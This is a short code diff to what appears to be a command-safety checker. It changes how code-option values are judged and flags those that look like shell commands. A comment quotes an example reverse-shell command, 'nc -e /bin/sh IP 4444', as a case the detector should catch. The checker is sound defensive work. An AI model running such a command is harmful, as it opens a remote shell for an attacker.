@@ -947,7 +947,13 @@ def _command_strings(values: Sequence[str], code_options: bool = False) -> Itera
         option, equals, rest = value.partition("=")
         named = option if equals and option.startswith("-") else previous
         text = rest if equals and option.startswith("-") else value
-        if _TEXT_OPTION.match(named) or (code_options and _CODE_OPTION.match(named)):
+        if _TEXT_OPTION.match(named):
+            text = ""
+        elif code_options and _CODE_OPTION.match(named):
+            # manage.py shell -c CODE is the script's own language; exploit.php -c "nc -e /bin/sh IP 4444"
+            # is a shell command it hands on: judged, and asked at most (it may be either)
+            if text and _COMMAND_START.match(text):
+                yield Perhaps(text)
             text = ""
         runs = _COMMAND_OPTION.match(named) or named in _RUN_VERBS
         if text and not runs and not _COMMAND_START.match(text) and _QUOTED_IN_PROSE.match(text):
